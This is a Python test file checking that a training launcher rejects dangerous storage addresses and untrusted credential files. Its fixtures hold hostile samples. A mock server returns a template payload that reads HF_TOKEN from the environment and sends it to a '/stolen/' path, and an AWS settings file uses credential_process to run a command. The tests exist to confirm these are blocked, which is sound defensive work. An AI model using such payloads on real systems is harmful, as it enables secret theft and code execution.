"""Storage addresses with which a file's author could read the process's environment, or run code in it."""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from types import ModuleType

import fsspec.implementations.http as fsspec_http
import pytest
from file_owners import MALLORY, as_root, give
from http_server import serving

from launcher.checkpoint.mirror.remote_folder import RemoteFolder
from launcher.config.sections.data import DataSection, Source
from launcher.data.sources import check_sources, locate, remote
from launcher.errors import DataError, SubmitError
from launcher.security import storage_addresses
from launcher.security.storage_addresses import address_problem, guard_clients, listener_problem

__all__ = ["as_root"]

CANARY = "hf_canaryCANARY0123456789abcd"


class Mallory(BaseHTTPRequestHandler):
    """Serves a references file with an address that contains a variable of the reader's environment."""

    asked: list[str]
    address = ""

    def do_GET(self) -> None:
        self.asked.append(self.path)
        url = f"http://{self.headers['Host']}/stolen/{{{{t.__globals__[os].environ[HF_TOKEN]}}}}"
        content = json.dumps({"version": 1, "templates": {"t": "{{x}}"}, "refs": {"a.jsonl": [url]}}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(content)

    do_HEAD = do_GET

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def mallory(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[str, list[str]]]:
    monkeypatch.setenv("HF_TOKEN", CANARY)
    server = type("Server", (Mallory,), {"asked": []})
    with serving(server) as address:
        yield address, server.asked


@pytest.mark.parametrize("form", ["reference://a.jsonl::{}/refs.json", "simplecache::reference://a.jsonl::{}/refs.json"])
def test_a_file_of_addresses_does_not_reach_the_environment(mallory: tuple[str, list[str]], form: str) -> None:
    address, asked = mallory
    source = Source(path=form.format(address))
    (problem,) = check_sources(DataSection(sources=(source,)))
    assert "reference:// is not storage" in problem.message
    # A run planned elsewhere is refused when it reads the source.
    reads: tuple[Callable[[Source], object], ...] = (locate.digest, locate.fetch_files)
    for read in reads:
        with pytest.raises(DataError, match="reference:// is not storage"):
            read(source)
    with pytest.raises(SubmitError, match="reference:// is not storage"):
        RemoteFolder(form.format(address))
    assert asked == []


@pytest.mark.parametrize(
    "address",
    [
        "reference://a",
        "zip://a::reference://b::https://c",
        "reference::https://c",
        "dask://host:8786/a",
        "generic://a",
        "jupyter://h/a",
    ],
)
def test_what_is_no_storage(address: str) -> None:
    problem = address_problem("data.path", address)
    assert problem is not None
    assert (problem.where, problem.value) == ("data.path", address)


@pytest.mark.parametrize(
    "address",
    [
        *("s3://bucket/a.jsonl", "gs://bucket/a", "abfs://container@account/a", "hf://datasets/o/n", "https://host/a.jsonl"),
        *("zip://*.jsonl::https://host/a.zip", "simplecache::s3://bucket/a", "file:///data/a.jsonl", "memory://a", "sftp://h/a"),
    ],
)
def test_storage(address: str) -> None:
    assert address_problem("data.path", address) is None


@pytest.mark.timeout(300)
def test_the_links_of_a_page_are_found_in_little_time() -> None:
    """fsspec took a minute for a folder listing with 2,000 spaces, during which the process ignored signals."""
    guard_clients("https://host/folder/")
    for page in ("<a " + " " * 200_000, "<a " * 200_000, "<a x" * 200_000, "<a href='" * 200_000):
        fsspec_http.ex.findall(page)
    page = """<a href="a.jsonl">a</a> <A title="t"\n HREF='/b'> <address href="none"> <a\thref="https://c/d">"""
    assert [link[2] for link in fsspec_http.ex.findall(page)] == ["a.jsonl", "/b", "https://c/d"]


@pytest.fixture
def paramiko(monkeypatch: pytest.MonkeyPatch) -> Iterator[ModuleType]:
    """A fake of the parts of paramiko that fsspec uses; no server is known yet."""
    module = ModuleType("paramiko")
    for policy in ("AutoAddPolicy", "WarningPolicy", "RejectPolicy", "MissingHostKeyPolicy"):
        setattr(module, policy, type(policy, (), {}))

    class Client:
        def __init__(self) -> None:
            self.files: list[str | None] = []

        def load_system_host_keys(self, file: str | None = None) -> None:
            self.files.append(file)

        def set_missing_host_key_policy(self, policy: object) -> None:
            self.policy = type(policy).__name__

        def connect(self, host: str, **login: object) -> None:
            if self.policy == "RejectPolicy":
                raise OSError(f"Server {host!r} not found in known_hosts, {self.files}")

        def open_sftp(self) -> None:
            raise AssertionError("the password and the files go to whoever has answered")

    module.__dict__["SSHClient"] = Client
    monkeypatch.setitem(sys.modules, "paramiko", module)
    storage_addresses._require_known_hosts.cache_clear()
    yield module
    storage_addresses._require_known_hosts.cache_clear()
    sys.modules.pop("fsspec.implementations.sftp", None)
    for protocol in ("sftp", "ssh"):
        sys.modules["fsspec.registry"]._registry.pop(protocol, None)


@pytest.mark.parametrize("address", ["sftp://host/runs", "ssh://host/runs"])
def test_sftp_connects_to_known_hosts_alone(paramiko: ModuleType, address: str) -> None:
    """fsspec itself accepts any host key, so a resume from a mirror would run code from whoever answers."""
    with pytest.raises(SubmitError, match=r"not found in known_hosts, .None, '/etc/ssh/ssh_known_hosts'.") as refused:
        RemoteFolder(address, waits_s=())
    assert "connect to the host with ssh once" in refused.value.problems[0].remedy
    with pytest.raises(DataError, match="not found in known_hosts"):
        locate.fetch_files(Source(path=f"{address}/a.jsonl"))


@pytest.mark.usefixtures("as_root")
def test_settings_of_a_client_that_another_user_could_write_run_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A variable may name a settings file in another user's folder, and AWS's client runs the file's credential_process."""
    for name in [name for name in os.environ if name.startswith("AWS_")]:
        monkeypatch.delenv(name)
    ran, settings, folder = tmp_path / "ran", tmp_path / "aws", tmp_path / "fsspec"
    settings.write_text(f"[default]\ncredential_process = touch {ran}\n")
    folder.mkdir()
    (folder / "s3.json").write_text("{}")
    monkeypatch.setenv("FSSPEC_CONFIG_DIR", str(folder))
    assert listener_problem("data.path", "https://host.invalid/rows.jsonl") is None
    give(folder / "s3.json")
    with pytest.raises(DataError, match=f"what FSSPEC_CONFIG_DIR names is not trusted: s3.json belongs to {MALLORY}"):
        remote._connect("https://host.invalid/rows.jsonl")
    monkeypatch.setenv("FSSPEC_CONFIG_DIR", os.devnull)
    give(settings)
    for variable in ("AWS_CONFIG_FILE", "AWS_SHARED_CREDENTIALS_FILE"):
        with monkeypatch.context() as context:
            context.setenv(variable, str(settings))
            with pytest.raises(SubmitError, match=f"what {variable} names is not trusted: .* belongs to {MALLORY}"):
                RemoteFolder("s3://bucket/run", waits_s=()).names()
    assert not ran.exists()


@pytest.mark.usefixtures("as_root")
@pytest.mark.parametrize("variable", ["GOOGLE_APPLICATION_CREDENTIALS", "CLOUDSDK_CONFIG"])
def test_another_users_file_for_google_does_not_choose_a_server(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, variable: str
) -> None:
    """An external_account names a file of the reader, such as an ssh key, and the server to which its content is sent."""
    file = tmp_path / "application_default_credentials.json"
    file.write_text("{}")
    named = file if variable == "GOOGLE_APPLICATION_CREDENTIALS" else tmp_path
    tmp_path.chmod(0o755)
    monkeypatch.setenv(variable, str(named))
    assert listener_problem("data.path", "gs://bucket/rows.jsonl") is None
    give(file)
    problem = listener_problem("data.path", "simplecache::gs://bucket/rows.jsonl")
    assert problem is not None
    assert f"what {variable} names is not trusted: " in problem.message
    assert problem.message.endswith(f"{file.relative_to(named) if named != file else file} belongs to {MALLORY}")
